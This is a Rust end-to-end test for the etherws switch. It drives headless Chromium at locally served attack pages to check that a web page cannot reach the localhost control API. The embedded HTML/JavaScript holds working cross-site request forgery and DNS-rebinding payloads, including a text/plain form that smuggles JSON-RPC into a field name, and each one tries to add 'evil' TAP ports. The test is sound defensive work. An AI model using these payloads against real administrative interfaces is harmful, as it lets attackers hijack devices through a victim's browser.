//! End-to-end test: a web page in the administrator's browser cannot drive the control API,
//! neither cross-site (simple requests a page may send anywhere, a CORS-preflighted one) nor
//! through DNS rebinding (the attacker's name resolving to the switch's loopback address, so
//! that the browser sees the control API as the page's own origin).
//!
//! The browser is the real `chromium`, headless, run as root inside the switch's network
//! namespace. The attack pages are served from inside that namespace by this test:
//!
//! * `http://attacker.example:8000/` (the name mapped to 127.0.0.1 by `--host-resolver-rules`)
//!   fires the cross-site attacks at `http://127.0.0.1:7867/ctl`;
//! * `http://rebind.attacker.example:7867/` (mapped to 127.0.0.2, where this test listens on
//!   port 7867) serves the rebinding page on `GET /` and relays every other connection to the
//!   switch's control API at 127.0.0.1:7867 untouched, which is what the browser's connection
//!   does once the attacker's DNS answers 127.0.0.1: same origin for the browser, so the page
//!   may send `application/json` and read the answers; only the `Host` header
//!   (`rebind.attacker.example:7867`) tells the switch.
//!
//! Every attack tries `etherws.control.addPort` with a TAP `evilN` (N per attack). The test
//! asserts the outcome, not status codes (a page cannot see most of them): no port was added,
//! no `evil*` interface exists, the rebinding page could not read the port list, and the
//! switch still serves. Against a switch that executes whatever reaches `/ctl`, the simple
//! requests (text/plain fetch, text/plain form, Blob without a Content-Type) and the rebinding
//! page all add their port; only the preflighted cross-site request is stopped by the browser.

use std::net::SocketAddr;

use etherws_testkit::browser::{PageServer, headless_chromium};
use etherws_testkit::*;
use serde_json::Value;

/// The attacker's site (cross-site attacks).
const ATTACKER_HOST: &str = "attacker.example";
const ATTACKER_PORT: u16 = 8000;
/// The attacker's name for DNS rebinding, and the loopback address the test's relay listens on.
const REBIND_HOST: &str = "rebind.attacker.example";
const REBIND_IP: &str = "127.0.0.2";
/// The page sets this title once every attack has been answered (or refused by the browser).
const MARKER: &str = "etherws-attacks-fired";

/// What each attack tries to add (`addPort tap evilN`), for the failure message.
const ATTACKS: &[(&str, &str)] = &[
    ("evil1", "no-cors fetch, Content-Type text/plain"),
    ("evil2", "form enctype=text/plain into an iframe"),
    (
        "evil3",
        "CORS fetch, Content-Type application/json (preflighted)",
    ),
    (
        "evil4",
        "DNS rebinding: same-origin fetch, application/json",
    ),
    ("evil5", "no-cors fetch of a Blob, no Content-Type at all"),
];

/// The cross-site page (`CTL_URL`, `REBIND_URL` and `"MARKER"` are filled in by
/// [`attack_page`]). It fires the attacks one after the other, each awaited until answered (or
/// refused by the browser itself), records what it could see of each, sets its title to the
/// marker and posts the record to `/done`; `<img src="/hold">` holds its load event until then.
const ATTACK_PAGE: &str = r#"<!doctype html>
<html><head><meta charset="utf-8"><title>attacks-running</title></head>
<body>
<img src="/hold" alt="">
<pre id="results"></pre>
<form id="f" method="POST" enctype="text/plain" action="CTL_URL" target="sink"><input type="hidden" name='{"jsonrpc":"2.0","method":"etherws.control.addPort","params":{"type":"tap","target":"evil2"},"id":2,"x":"' value='"}'></form>
<script>
"use strict";
const CTL = "CTL_URL";
const REBIND = "REBIND_URL";
const results = {};
function body(n) {
  return JSON.stringify({jsonrpc: "2.0", method: "etherws.control.addPort",
                         params: {type: "tap", target: "evil" + n}, id: n});
}
function record(name, what) {
  results[name] = String(what);
  document.getElementById("results").textContent = JSON.stringify(results)
    .replace(/[<>&]/g, c => "\\u" + c.charCodeAt(0).toString(16).padStart(4, "0"));
}
async function noCors() {
  try {
    const r = await fetch(CTL, {method: "POST", mode: "no-cors",
                                headers: {"Content-Type": "text/plain;charset=UTF-8"}, body: body(1)});
    record("evil1", "answered (" + r.type + " response)");
  } catch (e) { record("evil1", "failed: " + e); }
}
function form() {
  return new Promise(resolve => {
    const sink = document.createElement("iframe");
    sink.name = "sink";
    document.body.appendChild(sink);
    sink.onload = () => {
      let blank = false;
      try { blank = sink.contentDocument !== null && sink.contentDocument.URL === "about:blank"; }
      catch (e) { blank = false; }
      if (!blank) { record("evil2", "form answered"); resolve(); }
    };
    document.getElementById("f").submit();
  });
}
async function preflighted() {
  try {
    const r = await fetch(CTL, {method: "POST", headers: {"Content-Type": "application/json"},
                                body: body(3)});
    record("evil3", "HTTP " + r.status + ": " + (await r.text()).slice(0, 300));
  } catch (e) { record("evil3", "failed: " + e); }
}
function rebinding() {
  return new Promise(resolve => {
    window.addEventListener("message", ev => {
      if (ev.data && ev.data.rebind) {
        record("evil4", ev.data.addPort);
        record("rebind-listPort", ev.data.listPort);
        resolve();
      }
    });
    const f = document.createElement("iframe");
    f.src = REBIND;
    document.body.appendChild(f);
  });
}
async function blob() {
  try {
    const r = await fetch(CTL, {method: "POST", mode: "no-cors", body: new Blob([body(5)])});
    record("evil5", "answered (" + r.type + " response)");
  } catch (e) { record("evil5", "failed: " + e); }
}
(async () => {
  await noCors();
  await form();
  await preflighted();
  await rebinding();
  await blob();
  document.title = "MARKER";
  await fetch("/done", {method: "POST", body: JSON.stringify(results)});
})();
</script>
</body></html>
"#;

/// The page the rebinding origin serves: same origin as the control API for the browser.
const REBIND_PAGE: &str = r#"<!doctype html>
<html><head><meta charset="utf-8"><title>rebound</title></head>
<body><script>
"use strict";
async function call(body) {
  try {
    const r = await fetch("/ctl", {method: "POST", headers: {"Content-Type": "application/json"},
                                   body: JSON.stringify(body)});
    return "HTTP " + r.status + ": " + (await r.text()).slice(0, 300);
  } catch (e) { return "failed: " + e; }
}
(async () => {
  const addPort = await call({jsonrpc: "2.0", method: "etherws.control.addPort",
                              params: {type: "tap", target: "evil4"}, id: 4});
  const listPort = await call({jsonrpc: "2.0", method: "etherws.control.listPort", id: 6});
  parent.postMessage({rebind: true, addPort, listPort}, "*");
})();
</script></body></html>
"#;

fn attack_page() -> String {
    ATTACK_PAGE
        .replace(
            "CTL_URL",
            &format!("http://127.0.0.1:{}/ctl", HonestLan::CTL_PORT),
        )
        .replace(
            "REBIND_URL",
            &format!("http://{REBIND_HOST}:{}/", HonestLan::CTL_PORT),
        )
        .replace("\"MARKER\"", &format!("\"{MARKER}\""))
}

// ---------------------------------------------------------------------------------------------
// the test

/// A page in the administrator's browser fires cross-site and DNS-rebinding requests at the
/// control API (default settings: no credentials): none may add a port, and the rebinding page
/// may not read the port list.
#[test]
fn browser_page_cannot_drive_control_api() {
    if !require_root() || !require_tool("chromium") || !require_tool("ping") {
        return;
    }
    let lan = HonestLan::new("xs", &[]);
    let before = lan.sw.listport();
    assert_eq!(before.len(), 2, "the honest LAN's ports: {before:?}");

    let ctl = lan.sw.ctl_addr();
    let attacker = SocketAddr::from(([127, 0, 0, 1], ATTACKER_PORT));
    let rebind = SocketAddr::new(REBIND_IP.parse().unwrap(), HonestLan::CTL_PORT);
    let attacker_site = PageServer::start(&lan.sw_ns, attacker, attack_page(), None);
    let _rebinder = PageServer::start(&lan.sw_ns, rebind, REBIND_PAGE.to_string(), Some(ctl));

    let rules = format!(
        "--host-resolver-rules=MAP {ATTACKER_HOST} 127.0.0.1, MAP {REBIND_HOST} {REBIND_IP}"
    );
    let (dom, log) = headless_chromium(
        &lan.sw_ns,
        &format!("http://{ATTACKER_HOST}:{ATTACKER_PORT}/"),
        &[&rules, "--virtual-time-budget=5000"],
        false,
    );
    let marker = format!("<title>{MARKER}</title>");
    let results: Value = match attacker_site.results() {
        Some(r) if dom.contains(&marker) => serde_json::from_str(&r)
            .unwrap_or_else(|e| panic!("the page's results are not JSON ({e}): {r}")),
        r => panic!(
            "the attack page did not run to its end (results posted: {r:?}; title {marker} \
             in the DOM: {})\n--- dumped DOM ---\n{dom}\n--- chromium log ---\n{log}",
            dom.contains(&marker)
        ),
    };
    eprintln!("cross_site: what the page saw: {results:#}");
    for (evil, what) in ATTACKS {
        assert!(
            results.get(*evil).is_some(),
            "the page never finished the attack {what} ({evil}): {results:#}"
        );
    }

    // The outcome: nothing was added, neither a port nor a TAP.
    let after = lan.sw.listport();
    let links = lan.sw_ns.ip(&["-o", "link", "show"]);
    let names = link_names(&links);
    let succeeded: Vec<String> = ATTACKS
        .iter()
        .filter(|(evil, _)| {
            after.iter().any(|p| p.target == *evil) || names.iter().any(|l| l == evil)
        })
        .map(|(evil, what)| format!("{evil}: {what}"))
        .collect();
    assert!(
        succeeded.is_empty() && after == same_ports(&after, &before),
        "a web page drove the control API; the attacks that added a port:\n  {}\n\
         ports before: {before:?}\nports after: {after:?}\nlinks in the switch's namespace:\n\
         {links}\nwhat the page saw: {results:#}",
        succeeded.join("\n  ")
    );
    let rebind_read = results["rebind-listPort"].as_str().unwrap_or("");
    assert!(
        !rebind_read.contains("\"entries\""),
        "the DNS-rebinding page read the port list: {rebind_read}"
    );

    lan.still_serves();
}

/// Interface names in `ip -o link show` output (`5: evil1: <...>`, `3: h1@if2: <...>`).
fn link_names(links: &str) -> Vec<String> {
    links
        .lines()
        .filter_map(|l| l.split_whitespace().nth(1))
        .filter_map(|w| w.trim_end_matches(':').split('@').next())
        .map(str::to_string)
        .collect()
}

/// The port rows before the attack with the counters as they are now (RX/TX move with the
/// honest traffic): what `listport` must show after it, the same ports, states and targets.
fn same_ports(after: &[PortRow], before: &[PortRow]) -> Vec<PortRow> {
    before
        .iter()
        .map(|b| {
            let mut b = b.clone();
            if let Some(a) = after.iter().find(|a| a.port == b.port) {
                b.rx = a.rx;
                b.tx = a.tx;
            }
            b
        })
        .collect()
}
